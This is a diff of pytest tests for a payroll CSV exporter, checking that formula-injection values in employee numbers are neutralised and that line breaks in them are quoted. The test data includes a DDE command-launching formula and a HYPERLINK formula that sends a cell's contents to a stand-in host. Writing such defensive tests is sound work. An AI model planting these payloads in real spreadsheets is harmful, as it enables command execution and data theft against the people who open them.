@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Sequence
 from decimal import Decimal
 
 import pytest
 
 from payroll_exports import EmployeeTotals, EntryDetail, ExportContext, ExportError, get_format
+from payroll_exports.formats.csv_basic import SUMMARY_HEADER
 
 EXPECTED = (
     "employee_number,employee_name,period_start,period_end,regular_hours,overtime_hours,"
@@ -48,12 +51,49 @@ def test_names_with_commas_quotes_and_formulas_are_quoted_and_neutralised(
     )
 
 
-def test_ids_keep_leading_zeros_and_negative_looking_ids_are_not_prefixed(
+def test_ids_keep_leading_zeros_and_a_sign_in_front_of_an_id_is_neutralised(
     ctx: ExportContext,
 ) -> None:
-    row = EmployeeTotals("-007", "Ann", "Lee", Decimal("10.00"))
-    line = get_format("csv").render(ctx, [row], []).decode().splitlines()[1]
-    assert line.startswith("-007,Ann Lee,")  # IDs and numbers are never neutralised
+    rows = [
+        EmployeeTotals("-007", "Ann", "Lee", Decimal("10.00")),
+        EmployeeTotals("0042", "Bo", "Kim", Decimal("10.00")),
+    ]
+    lines = get_format("csv").render(ctx, rows, []).decode().splitlines()
+    # employee_number is text a manager types: "-2+3" in it is as live as in a name.
+    assert [line.split(",")[0] for line in lines[1:]] == ["'-007", "0042"]
+
+
+@pytest.mark.parametrize(
+    ("employee_number", "cell"),
+    [
+        pytest.param("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", id="dde"),
+        pytest.param(
+            '=HYPERLINK("http://x.example/?"&A1)',
+            '"\'=HYPERLINK(""http://x.example/?""&A1)"',
+            id="hyperlink",
+        ),
+        pytest.param("+1+1", "'+1+1", id="plus"),
+        pytest.param("@SUM(1)", "'@SUM(1)", id="at"),
+        pytest.param("\t=1", "'\t=1", id="tab"),
+        pytest.param("\r=1+1", '"\'\r=1+1"', id="leading-cr"),
+        pytest.param("12\r34", '"12\r34"', id="inner-cr"),
+        pytest.param("12\n34", '"12\n34"', id="inner-lf"),
+    ],
+)
+def test_employee_number_is_neutralised_and_a_line_break_in_it_is_quoted(
+    ctx: ExportContext, employee_number: str, cell: str
+) -> None:
+    row = EmployeeTotals(employee_number, "Ann", "Lee", Decimal("10.00"), regular_seconds=3600)
+    content = get_format("csv").render(ctx, [row], []).decode()
+    assert content == (
+        ",".join(SUMMARY_HEADER)
+        + "\n"
+        + f"{cell},Ann Lee,2026-11-16,2026-11-29,1.00,0.00,0.00,10.00,10.00,0.00,0.00,10.00,USD\n"
+    )
+    # Read back as a spreadsheet would: still one record, the number kept after the quote.
+    records = list(csv.reader(io.StringIO(content, newline="")))
+    assert len(records) == 2
+    assert records[1][0].lstrip("'") == employee_number
 
 
 def test_duplicate_employee_is_an_error(ctx: ExportContext) -> None:
